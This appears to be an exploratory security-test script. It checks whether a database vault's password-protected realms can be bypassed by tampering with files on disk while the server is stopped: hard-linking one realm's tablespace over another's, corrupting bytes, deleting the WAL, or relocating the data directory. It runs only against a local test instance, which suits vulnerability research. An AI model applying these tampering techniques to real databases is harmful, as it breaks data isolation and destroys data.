# exploratory script (attempts that held); run with /usr/bin/python3, prints observations
import sys, time, signal, os, glob; sys.path.insert(0,'/work/attack2/findings')
from dbv import *
mode=sys.argv[1]
s=Server(); s.start(); print(s.tmp, s.port)
d=s.connect('dba'); sa=s.connect('secadmin')
print(run(sa,"CREATE REALM hr DESCRIPTION 'h' REQUIRE VAULT PASSWORD 'hrpw-1' TABLESPACE hr_ts"))
print(run(sa,"CREATE REALM fin DESCRIPTION 'f' REQUIRE VAULT PASSWORD 'finpw-1' TABLESPACE fin_ts"))
print(run(d,"CREATE TABLE sal (id INTEGER PRIMARY KEY, amount INTEGER) TABLESPACE hr_ts"))
print(run(d,"CREATE TABLE acct (id INTEGER PRIMARY KEY, amount INTEGER) TABLESPACE fin_ts"))
print(run(d,"UNLOCK REALM hr PASSWORD 'hrpw-1'"), run(d,"INSERT INTO sal WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<3000) SELECT x, x FROM c"))
print(run(d,"UNLOCK REALM fin PASSWORD 'finpw-1'"), run(d,"INSERT INTO acct VALUES (1,999)"))
ts=run(sa,"SELECT * FROM vault.tablespaces")[1]; print(ts)
d.close(); sa.close()
time.sleep(1)
print('stop', s.stop())
dd=s.data+"/data"
os.system("ls -la "+dd+" | grep ts_")
files={r[0]: dd+"/"+os.path.basename(r[1]) for r in ts}
hr=files['hr_ts']; fin=files['fin_ts']
if mode=='hardlink':
    os.unlink(hr); os.link(fin, hr)
elif mode=='corrupt':
    with open(hr,'r+b') as f: f.seek(4096*2+100); f.write(b'\x00'*50)
elif mode=='delwal':
    os.unlink(hr+"-wal")
elif mode=='dirlink':
    os.rename(dd, s.tmp+"/elsewhere"); os.symlink(s.tmp+"/elsewhere", dd)
os.system("ls -la "+dd+"/ | grep ts_")
try:
    s.start()
    d=s.connect('dba')
    print(run(d,"UNLOCK REALM hr PASSWORD 'hrpw-1'"))
    print(run(d,"SELECT count(*) FROM sal"))
    print(run(d,"SELECT * FROM acct"))
except Exception as e: print("start failed", e); os.system("tail -3 %s/server.log"%s.tmp)
print('stop', s.stop())
